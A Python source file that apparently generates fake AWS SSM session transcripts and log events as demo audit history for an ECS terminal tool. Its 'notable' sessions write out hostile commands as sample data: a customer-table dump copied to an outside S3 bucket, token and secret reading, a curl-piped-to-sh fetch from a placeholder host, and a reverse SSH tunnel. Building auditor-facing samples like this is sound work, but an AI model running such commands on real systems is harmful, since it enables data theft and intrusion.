"""Transcripts as AWS's agent writes them, and what the sessions of the demo's history did.

The agent runs `script` over the bytes of the terminal when a session has ended, so that the times
in the first and last line are those of the upload. Source: shell.go of amazon-ssm-agent, script(1)
of util-linux.
"""

from __future__ import annotations

from collections.abc import Iterator
from datetime import UTC, datetime

from ecs_tui.demo.cloudtrail_record import digest
from ecs_tui.record import dataclass

EVENT_BYTES = 200_000
"""Most bytes of one log event: the agent packs lines into events of this size."""
_CAT = 'COMMAND="cat /var/lib/amazon/ssm/{session}/ipcTempFile.log"'


def with_script_lines(session_id: str, output: bytes, at: float) -> bytes:
    """The file that `script` makes of a terminal's bytes.

    Args:
        at: When it is made, in seconds since 1970: after the session has ended.
    """
    when = f"{datetime.fromtimestamp(at, UTC):%Y-%m-%d %H:%M:%S+00:00}"
    command = _CAT.format(session=session_id)
    first = f"Script started on {when} [{command} <not executed on terminal>]\r\n"
    last = f'\r\n\r\nScript done on {when} [COMMAND_EXIT_CODE="0"]\r\n'
    return first.encode() + output + last.encode()


def log_events(transcript: bytes) -> Iterator[str]:
    """A transcript as the messages of log events: whole lines, CRLF replaced by LF."""
    text, start = transcript.replace(b"\r\n", b"\n"), 0
    while start < len(text):
        end = min(len(text), start + EVENT_BYTES)
        if end < len(text):
            newline = text.rfind(b"\n", start, end)
            end = newline + 1 if newline >= 0 else end
        yield text[start:end].decode("utf-8", "replace")
        start = end


# -- the history's sessions


@dataclass(frozen=True, slots=True)
class Step:
    """A command that was typed, and what it printed."""

    typed: str
    printed: str = ""


_GREEN, _BLUE, _RED, _BOLD, _OFF = "\x1b[32m", "\x1b[1;34m", "\x1b[1;31m", "\x1b[1m", "\x1b[0m"
_LOOKS = (
    (
        Step("ls --color", f"{_BLUE}app{_OFF}  {_BLUE}config{_OFF}  {_GREEN}entrypoint.sh{_OFF}  Gemfile"),
        Step("ps aux", "USER   PID %CPU %MEM COMMAND\nroot     1  0.3  2.1 /usr/bin/app serve\n"
                       "root    44  0.0  0.1 ps aux"),
    ),
    (
        Step("free -m", "               total        used        free\nMem:            1024         713         311"),
        Step("df -h /", "Filesystem      Size  Used Avail Use% Mounted on\noverlay          30G  9.4G   19G  34% /"),
        Step("tail -n 2 /var/log/app.log", f"INFO  request served in 12 ms\n{_RED}ERROR{_OFF} upstream timed out"),
    ),
    (
        Step("curl -s localhost:8080/health", '{"status":"ok","version":"2026.11"}'),
        Step("cat /etc/resolv.conf", "nameserver 10.0.0.2\nsearch ec2.internal"),
    ),
)  # fmt: skip
"""What is done in most sessions."""
_NOTABLE = (
    (
        Step("pg_dump -h $DB_HOST -U app -t customers orders > /tmp/customers.sql"),
        Step("ls -lh /tmp/customers.sql", "-rw-r--r-- 1 root root 218M Nov 12 03:14 /tmp/customers.sql"),
        Step("aws s3 cp /tmp/customers.sql s3://frank-scratch/customers.sql",
             "upload: ../tmp/customers.sql to s3://frank-scratch/customers.sql"),
        Step("rm -f /tmp/customers.sql"),
    ),
    (
        Step("psql -h $DB_HOST -U app orders", f"psql (16.4)\n{_BOLD}Type \"help\" for help.{_OFF}"),
        Step("UPDATE orders SET status = 'paid' WHERE id = 81723;", "UPDATE 1"),
        Step("SELECT count(*) FROM customers WHERE country = 'DE';", " count\n-------\n 48211\n(1 row)"),
        Step("DELETE FROM carts WHERE updated_at < now() - interval '90 days';", "DELETE 1204"),
        Step("\\q"),
    ),
    (
        Step("env | grep -i token", "API_TOKEN=tok_live_9a8b7c6d5e4f3a2b1c0d\nAWS_ACCESS_KEY_ID=AKIAIOSFODNN7EXAMPLE"),
        Step("cat /run/secrets/database", "postgres://app:s3cr3t-passw0rd@db.internal:5432/orders"),
    ),
    (
        Step("apt-get install -y tcpdump", "Reading package lists... Done\nSetting up tcpdump (4.99.3-1) ..."),
        Step("tcpdump -c 1 -i eth0 port 5432", "1 packet captured"),
    ),
    (
        Step("curl -s https://paste.example.net/x.sh | sh", f"{_RED}sh: 1: Syntax error: newline unexpected{_OFF}"),
        Step("ssh -N -R 2222:localhost:22 ops@bastion.example.net", "ops@bastion.example.net: Permission denied (publickey)."),
    ),
    (
        Step("kill -9 1"),
        Step("vi config/settings.yml", "\x1b[?1049h\x1b[2J\x1b[H\x1b[1mtimeout: 30\x1b[0m\r\n~\r\n~\x1b[?1049l"),
    ),
)  # fmt: skip
"""What an auditor looks for; in one session of four."""


def past_steps(session_id: str, command: str = "") -> tuple[Step, ...]:
    """What was typed in a session of the history: always the same for the same ID."""
    if command == "psql":
        return _NOTABLE[1][1:]
    number = int(digest("steps", session_id)[:8], 16)
    looks = _LOOKS[number % len(_LOOKS)]
    if number // 8 % 4:
        return looks
    return (*looks, *_NOTABLE[number // 64 % len(_NOTABLE)])


def past_output(session_id: str, label: str, task_id: str, command: str) -> bytes:
    """The bytes of the terminal of a session of the history.

    Args:
        label: The service and the container.
        command: Of ExecuteCommand: one that is no shell ran, and ended.
    """
    if " -c " in command or command.startswith("sh -c"):
        return b"Name:\tapp\r\nState:\tS (sleeping)\r\nThreads:\t14\r\n"
    prompt = f"{_BOLD}[{label} {task_id[:7]}] # {_OFF}"
    lines = []
    for step in past_steps(session_id, command):
        lines.append(f"{prompt}{step.typed}")
        if step.printed:
            lines.append(step.printed.replace("\n", "\r\n"))
    lines.append(f"{prompt}exit")
    return "\r\n".join(lines).encode() + b"\r\nexit\r\n"
